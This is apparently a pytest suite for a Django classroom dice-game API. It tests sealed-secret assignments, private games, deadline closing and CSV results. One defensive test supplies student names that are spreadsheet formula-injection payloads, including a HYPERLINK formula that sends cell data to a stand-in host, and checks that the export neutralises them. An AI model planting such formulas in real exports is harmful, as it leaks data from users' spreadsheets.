"""Assignments (docs/contract.md, "Assignments"): the teacher sets them, the students play
game k from the same secret, the games stay private and their secrets sealed until the deadline, and
the results rank the class."""

import csv
import datetime as dt
import hashlib
import io

import pytest
from django.utils import timezone

from games.api.assignments.bodies import csv_cell
from games.models import Assignment, Game, Student
from tests.api.conftest import run_due_work

from .conftest import assert_problem

pytestmark = pytest.mark.django_db


def later(**delta: float) -> str:
    return (timezone.now() + dt.timedelta(**delta)).isoformat()


@pytest.fixture
def room(classes):
    room = classes.open()
    for name in ("Ann", "Ben", "Cleo"):
        classes.join(room, name)
    return room


def set_assignment(classes, room, **fields):
    body = {"title": "Week 3", "ruleset": "yahtzee", "games": 2, "due_at": later(days=1),
            **fields}
    return classes.teacher(f"/api/v1/classrooms/{room.id}/assignments/", room.teacher_key,
                           "post", body)


def assignment(classes, room, **fields) -> dict:
    response = set_assignment(classes, room, **fields)
    assert response.status_code == 201, response.json()
    return response.json()


def start(classes, room, work: dict, key: str):
    return classes.teacher(
        f"/api/v1/classrooms/{room.id}/assignments/{work['id']}/games/", key, "post"
    )


def started(classes, room, work: dict, name: str) -> dict:
    response = start(classes, room, work, classes.key_of(room, name))
    assert response.status_code == 201, response.json()
    return response.json()


def expire(work: dict) -> None:
    """The deadline passes (the assignment and its games, as if time had gone by); no
    worker has closed it yet (see ``run_due_work``)."""
    past = timezone.now() - dt.timedelta(seconds=1)
    Assignment.objects.filter(pk=work["id"]).update(due_at=past)
    Game.objects.filter(assignment_id=work["id"]).update(due_at=past)


# -- setting an assignment -------------------------------------------------------------------


def test_a_teacher_sets_an_assignment_with_a_committed_secret_per_game(classes, room):
    work = assignment(classes, room, games=3, options={"joker": "free"})
    assert work["title"] == "Week 3" and work["ruleset"] == "yahtzee" and work["games"] == 3
    assert work["options"] == {"joker": "free", "yahtzee_bonus": "unlimited"}
    assert work["status"] == "open" and work["secrets"] is None
    assert len(work["commitments"]) == 3 and len(set(work["commitments"])) == 3
    assert dt.datetime.fromisoformat(work["opens_at"]) <= timezone.now()
    listed = classes.teacher(f"/api/v1/classrooms/{room.id}/assignments/", room.teacher_key)
    assert listed.json() == [work]


@pytest.mark.parametrize(
    "fields, field",
    [
        ({"games": 0}, "games"),
        ({"games": 101}, "games"),
        ({"due_at": later(seconds=-5)}, "due_at"),
        ({"opens_at": later(days=2), "due_at": later(days=1)}, "due_at"),
        ({"due_at": "next friday"}, "due_at"),
        ({"title": " "}, "title"),
        ({"options": {"joker": "sometimes"}}, "options.joker"),
        ({"colour": "red"}, "colour"),
    ],
    ids=["no-games", "too-many", "past", "before-opening", "not-a-time", "blank-title",
         "bad-option", "unknown-field"],
)
def test_an_assignment_out_of_bounds_is_refused_and_nothing_is_set(classes, room, fields, field):
    response = set_assignment(classes, room, **fields)
    assert response.status_code == 400, response.json()
    assert field in {error["field"] for error in response.json()["errors"]}
    assert not Assignment.objects.exists()


def test_only_the_teacher_sets_assignments(classes, room):
    other = classes.open("6C")
    path = f"/api/v1/classrooms/{room.id}/assignments/"
    body = {"title": "x", "ruleset": "yatzy", "games": 1, "due_at": later(days=1)}
    assert_problem(classes.teacher(path, None, "post", body), 401, "not_authenticated")
    assert_problem(
        classes.teacher(path, classes.key_of(room, "Ann"), "post", body), 403, "forbidden"
    )
    assert_problem(classes.teacher(path, other.teacher_key, "post", body), 403, "forbidden")
    assert not Assignment.objects.exists()


def test_students_read_the_assignments_with_their_own_progress(classes, room):
    work = assignment(classes, room)
    started(classes, room, work, "Ann")
    path = f"/api/v1/classrooms/{room.id}/assignments/{work['id']}/"
    ann = classes.teacher(path, classes.key_of(room, "Ann")).json()
    assert ann["progress"] == {"started": 1, "finished": 0}
    assert classes.teacher(path, classes.key_of(room, "Ben")).json()["progress"] == {
        "started": 0, "finished": 0
    }
    assert "progress" not in classes.teacher(path, room.teacher_key).json()
    other = classes.open("6C")
    classes.join(other, "Dan")
    assert_problem(classes.teacher(path, classes.key_of(other, "Dan")), 403, "forbidden")
    assert_problem(classes.teacher(path, None), 401, "not_authenticated")


# -- the students' games ---------------------------------------------------------------------


def test_a_students_game_k_is_thrown_from_the_kth_secret(classes, room):
    work = assignment(classes, room)
    game = started(classes, room, work, "Ann")
    assert game["assignment"] == work["id"] and game["assignment_game"] == 1
    assert [(p["name"], p["computer"]) for p in game["players"]] == [("Ann", None)]
    assert game["players"][0]["token"] and game["student"] == "Ann"
    assert game["ranked"] is False
    assert game["dice"]["client_seed"] == "game-1"
    assert game["dice"]["commitment"] == work["commitments"][0]
    second = started(classes, room, work, "Ann")
    assert second["assignment_game"] == 2 and second["dice"]["commitment"] == work["commitments"][1]


def test_every_students_game_k_throws_the_same_faces_at_the_same_places(classes, room):
    work = assignment(classes, room)
    games = [started(classes, room, work, name) for name in ("Ann", "Ben")]
    first = [classes.ok(game, "roll")["turn"]["dice"] for game in games]
    assert first[0] == first[1]
    second = [classes.ok(g, "roll", {"hold": h})["turn"]["dice"]
              for g, h in zip(games, ([0, 1, 2], [4]), strict=True)]
    assert second[0][3:4] == second[1][3:4]  # thrown in both games: the same face
    assert second[0][:3] == first[0][:3] and second[1][4] == first[1][4]


def test_a_student_cannot_start_more_games_than_set(classes, room):
    work = assignment(classes, room, games=1)
    started(classes, room, work, "Ann")
    key = classes.key_of(room, "Ann")
    assert_problem(start(classes, room, work, key), 409, "assignment_complete")
    assert Game.objects.filter(assignment_id=work["id"]).count() == 1


def test_games_start_only_while_the_assignment_is_open(classes, room):
    scheduled = assignment(classes, room, opens_at=later(hours=1), due_at=later(days=1))
    assert scheduled["status"] == "scheduled"
    key = classes.key_of(room, "Ann")
    assert_problem(start(classes, room, scheduled, key), 409, "assignment_not_open")
    work = assignment(classes, room)
    expire(work)
    assert_problem(start(classes, room, work, key), 409, "assignment_not_open")
    assert not Game.objects.exists()


def test_only_a_student_of_the_classroom_starts_games(classes, room):
    work = assignment(classes, room)
    other = classes.open("6C")
    classes.join(other, "Dan")
    assert_problem(start(classes, room, work, room.teacher_key), 403, "forbidden")
    assert_problem(start(classes, room, work, classes.key_of(other, "Dan")), 403, "forbidden")
    assert_problem(start(classes, room, work, None), 401, "not_authenticated")
    assert not Game.objects.exists()


# -- private until the deadline --------------------------------------------------------------


def paths(game: dict) -> list[str]:
    base = f"/api/v1/games/{game['id']}"
    return [f"{base}/", f"{base}/events/", f"{base}/record/", f"{base}/analysis/",
            f"{base}/hint/", f"{base}/stream/?last_event_id=1"]


def test_an_assignment_game_is_private_to_its_student_and_teacher(classes, room):
    work = assignment(classes, room)
    game = started(classes, room, work, "Ann")
    classes.ok(game, "roll")
    for path in paths(game):
        assert_problem(classes.client.get(path), 404, "not_found")
        assert_problem(classes.teacher(path, classes.key_of(room, "Ben")), 404, "not_found")
        assert_problem(classes.client.get(path, HTTP_IF_NONE_MATCH='"1"'), 404, "not_found")
    for key in (classes.key_of(room, "Ann"), room.teacher_key):
        for path in paths(game)[:3]:
            assert classes.teacher(path, key).status_code == 200, path
    token = f"Bearer {game['players'][0]['token']}"
    assert classes.client.get(paths(game)[0], HTTP_AUTHORIZATION=token).status_code == 200
    listed = classes.client.get("/api/v1/games/").json()["results"]
    assert game["id"] not in {g["id"] for g in listed}


def test_after_the_deadline_the_games_are_public_and_their_secrets_shown(classes, room):
    work = assignment(classes, room)
    ann = started(classes, room, work, "Ann")
    finished = classes.play_to_the_end(ann)
    assert finished["status"] == "finished" and finished["dice"]["secret"] is None
    record = classes.client.get(f"/api/v1/games/{ann['id']}/record/",
                                HTTP_X_API_KEY=classes.key_of(room, "Ann")).json()
    check = classes.client.post("/api/v1/records/verify/", record, format="json").json()
    assert check["checked"]["dice"] == "unchecked"
    ben = started(classes, room, work, "Ben")
    classes.ok(ben, "roll")
    expire(work)
    run_due_work()
    shown = classes.client.get(f"/api/v1/classrooms/{room.id}/assignments/{work['id']}/",
                               HTTP_X_API_KEY=room.teacher_key).json()
    assert shown["status"] == "closed" and len(shown["secrets"]) == 2
    assert [hashlib.sha256(bytes.fromhex(s)).hexdigest() for s in shown["secrets"]] == (
        shown["commitments"]
    )
    public = classes.client.get(f"/api/v1/games/{ann['id']}/").json()
    assert public["dice"]["secret"] == shown["secrets"][0]
    abandoned = classes.client.get(f"/api/v1/games/{ben['id']}/").json()
    assert abandoned["status"] == "abandoned" and abandoned["dice"]["secret"] == shown["secrets"][0]
    assert_problem(classes.move(ben, "roll"), 409, "game_not_active")
    record = classes.client.get(f"/api/v1/games/{ann['id']}/record/").json()
    check = classes.client.post("/api/v1/records/verify/", record, format="json").json()
    assert check["valid"] and check["checked"]["dice"] > 0


def test_a_move_after_the_deadline_is_refused_before_any_read_closes_it(classes, room):
    work = assignment(classes, room)
    game = started(classes, room, work, "Ann")
    expire(work)
    assert_problem(classes.move(game, "roll"), 409, "game_not_active")
    assert Game.objects.get(pk=game["id"]).version == 1


# -- results ---------------------------------------------------------------------------------


def results(classes, room, work: dict, **headers: str):
    return classes.client.get(
        f"/api/v1/classrooms/{room.id}/assignments/{work['id']}/results/",
        **{"HTTP_X_API_KEY": room.teacher_key, **headers},
    )


def test_results_rank_the_class_by_mean_score(classes, room):
    work = assignment(classes, room, ruleset="forced-yatzy")
    totals = {}
    for name in ("Ann", "Ben"):
        totals[name] = classes.play_to_the_end(started(classes, room, work, name))
        totals[name] = totals[name]["players"][0]["total"]
    started(classes, room, work, "Ann")  # a second game, not finished
    body = results(classes, room, work).json()
    assert body["assignment"]["id"] == work["id"]
    rows = {row["student"]["name"]: row for row in body["students"]}
    assert list(rows) [-1] == "Cleo" and rows["Cleo"]["rank"] is None
    assert rows["Cleo"]["mean_score"] is None and rows["Cleo"]["games_started"] == 0
    assert rows["Ann"]["games_started"] == 2 and rows["Ann"]["games_finished"] == 1
    assert rows["Ann"]["mean_score"] == rows["Ann"]["best_score"] == totals["Ann"]
    best = max(totals, key=totals.get)
    assert body["students"][0]["student"]["name"] == best or totals["Ann"] == totals["Ben"]
    assert rows[best]["rank"] == 1
    assert {row["student"]["id"] for row in body["students"]} == {
        str(s.id) for s in Student.objects.all()
    }


def test_results_as_csv_hold_the_rows_of_the_json(classes, room):
    work = assignment(classes, room)
    classes.play_to_the_end(started(classes, room, work, "Ben"))
    rows = results(classes, room, work).json()["students"]
    for asked in ({"HTTP_ACCEPT": "text/csv"}, {"QUERY_STRING": "format=csv"}):
        response = results(classes, room, work, **asked)
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        table = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert list(table[0]) == ["student", "games_started", "games_finished", "mean_score",
                                  "best_score", "mean_accuracy", "rank"]
        assert [
            [row["student"]["name"], *(str(row[k]) if row[k] is not None else ""
                                       for k in list(table[0])[1:])]
            for row in rows
        ] == [list(line.values()) for line in table]


FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Ann")', "+1+1", "-2+3", "@SUM(A1)",
                 "Plain = fine", "'Quoted"]


def test_results_csv_writes_no_cell_a_spreadsheet_takes_for_a_formula(classes):
    room = classes.open()
    for name in FORMULA_NAMES:
        classes.join(room, name)
    work = assignment(classes, room)
    table = list(csv.reader(io.StringIO(
        results(classes, room, work, HTTP_ACCEPT="text/csv").content.decode()
    )))
    written = sorted(line[0] for line in table[1:])
    expected = sorted(("'" + name) if name[0] in "=+-@" else name for name in FORMULA_NAMES)
    assert written == expected
    # The JSON keeps the names as they were given.
    names = {row["student"]["name"] for row in results(classes, room, work).json()["students"]}
    assert names == set(FORMULA_NAMES)


@pytest.mark.parametrize("text", ["\tTab", "\rReturn", "=1", "+1", "-1", "@A1"])
def test_a_csv_cell_starting_like_a_formula_starts_with_a_quote(text):
    # Names are trimmed when students join; a tab or a carriage return is guarded anyway.
    assert csv_cell(text) == "'" + text
    assert csv_cell("Ann") == "Ann" and csv_cell(None) == "" and csv_cell(-3) == -3


def test_results_are_the_teachers_only(classes, room):
    work = assignment(classes, room)
    assert_problem(results(classes, room, work, HTTP_X_API_KEY=classes.key_of(room, "Ann")),
                   403, "forbidden")


@pytest.mark.parametrize("students", [3, 300])
def test_results_cost_the_same_queries_for_any_class(classes, students,
                                                     django_assert_num_queries):
    room = classes.open()
    classes.join(room, "Ann")
    work = assignment(classes, room)
    classes.play_to_the_end(started(classes, room, work, "Ann"))
    Student.objects.bulk_create(
        Student(classroom_id=room.id, name=f"S{i}", name_key=f"s{i}") for i in range(students - 1)
    )
    # The key, the assignment, the students, their games' seats with the figures kept
    # when each game finished, and the grades sent to a learning platform.
    with django_assert_num_queries(5) as queries:
        rows = results(classes, room, work).json()["students"]
    assert len(rows) == students, [q["sql"][:60] for q in queries.captured_queries]


def test_a_key_tells_whose_it_is(classes, room):
    teacher = classes.teacher("/api/v1/me/", room.teacher_key).json()
    assert teacher == {"role": "teacher", "classroom": {"id": room.id, "name": "5B"},
                       "student": None}
    ann = classes.teacher("/api/v1/me/", classes.key_of(room, "Ann")).json()
    assert ann["role"] == "student" and ann["student"]["name"] == "Ann"
    assert ann["classroom"]["id"] == room.id
    assert_problem(classes.teacher("/api/v1/me/", None), 401, "not_authenticated")


def test_the_admin_shows_an_assignment_its_games_and_its_secrets_once_closed(classes, room,
                                                                            admin_client):
    work = assignment(classes, room)
    game = started(classes, room, work, "Ann")
    page = admin_client.get(f"/admin/games/assignment/{work['id']}/change/")
    assert page.status_code == 200
    text = page.content.decode()
    assert work["commitments"][0] in text and game["id"][:8] in text
    secrets = Assignment.objects.get(pk=work["id"]).secrets
    assert not any(secret in text for secret in secrets)
    assert "hidden until the assignment closes" in text
    expire(work)
    run_due_work()
    text = admin_client.get(f"/admin/games/assignment/{work['id']}/change/").content.decode()
    assert all(secret in text for secret in secrets)
    assert admin_client.get("/admin/games/assignment/").status_code == 200


def test_a_worker_closes_an_assignment_at_its_deadline_with_no_request(classes, room):
    work = assignment(classes, room)
    game = started(classes, room, work, "Ann")
    classes.ok(game, "roll")
    expire(work)
    run_due_work()
    closed = Assignment.objects.get(pk=work["id"])
    assert closed.closed_at is not None
    stored = Game.objects.get(pk=game["id"])
    assert stored.status == "abandoned" and stored.dice_sealed is False


def test_reads_after_the_deadline_close_nothing_until_a_worker_does(classes, room):
    """Until a worker's closing has run, an assignment past its deadline reads open and a
    read changes nothing; its games take no move and no new game starts all the same."""
    work = assignment(classes, room)
    game = started(classes, room, work, "Ann")
    classes.ok(game, "roll")
    expire(work)
    path = f"/api/v1/classrooms/{room.id}/assignments/{work['id']}/"
    for read in (path, f"/api/v1/classrooms/{room.id}/", f"/api/v1/classrooms/{room.id}/games/"):
        assert classes.teacher(read, room.teacher_key).status_code == 200
    assert classes.client.get("/api/v1/games/").status_code == 200
    assert classes.client.get(f"/api/v1/games/{game['id']}/").status_code == 200
    shown = classes.teacher(path, room.teacher_key).json()
    assert shown["status"] == "open" and shown["secrets"] is None
    assert Assignment.objects.get(pk=work["id"]).closed_at is None
    assert Game.objects.get(pk=game["id"]).status == "active"
    assert_problem(classes.move(game, "roll"), 409, "game_not_active")
    assert_problem(start(classes, room, work, classes.key_of(room, "Ann")), 409,
                   "assignment_not_open")
    run_due_work()
    shown = classes.teacher(path, room.teacher_key).json()
    assert shown["status"] == "closed" and len(shown["secrets"]) == 2
    assert Game.objects.get(pk=game["id"]).status == "abandoned"
